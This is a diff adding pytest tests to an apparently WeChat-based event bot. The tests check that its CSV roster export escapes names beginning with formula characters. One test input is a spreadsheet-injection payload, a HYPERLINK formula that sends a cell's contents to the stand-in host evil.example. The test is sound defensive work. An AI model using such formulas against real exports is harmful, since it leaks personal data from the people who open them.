@@ -15,6 +15,7 @@ import pytest
 from click.testing import CliRunner
 from sqlalchemy import func, select
 
+from bot.cli_events import spreadsheet_text
 from bot.fake_wechat import FakeWeChatServer
 from bot.services import Services
 from models import OutboxMessage
@@ -425,6 +426,39 @@ def test_roster_in_every_format(staff: CliRunner, services: Services, tmp_path: 
     assert [row["section"] for row in rows] == ["confirmed"] * 2 + ["waitlist"] * 2 + ["attendance"]
     assert rows[0]["name"] == "张三" and rows[0]["mobile"] == "13812345678"
     assert rows[3]["position"] == "2"
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://evil.example/?x="&B2,"点我")', "+1+1", "-2+3", "@SUM(A1)"]
+)
+def test_roster_csv_keeps_a_formula_name_as_text(
+    staff: CliRunner, services: Services, tmp_path: Path, name: str
+) -> None:
+    """A name a resident chose must not run when staff open the roster in a spreadsheet."""
+    event_id = create(staff, "--publish", days=0.05)
+    residents_sign_up(services, event_id, "o-1", "o-2")
+    with services.session_factory() as db, db.begin():
+        save_contact(get_or_create_resident(db, "o-1", utcnow()), name, "13812345678", utcnow())
+        save_contact(get_or_create_resident(db, "o-2", utcnow()), "李四-2", "13812345679", utcnow())
+    run(staff, "events", "checkin", str(event_id), "--openid", "o-1")
+    path = tmp_path / "roster.csv"
+    run(staff, "events", "roster", str(event_id), "--csv", str(path))
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["name"] for row in rows] == [f"'{name}", "李四-2", f"'{name}"]
+    assert rows[0]["mobile"] == "13812345678" and rows[0]["party_size"] == "1"
+
+
+def test_spreadsheet_text_quotes_every_formula_start() -> None:
+    assert [spreadsheet_text(cell) for cell in ("\t=1", "\r=1", "=1", "张三", "", None, 2)] == [
+        "'\t=1",
+        "'\r=1",
+        "'=1",
+        "张三",
+        "",
+        None,
+        2,
+    ]
 
 
 def test_roster_refusals(staff: CliRunner, tmp_path: Path) -> None:
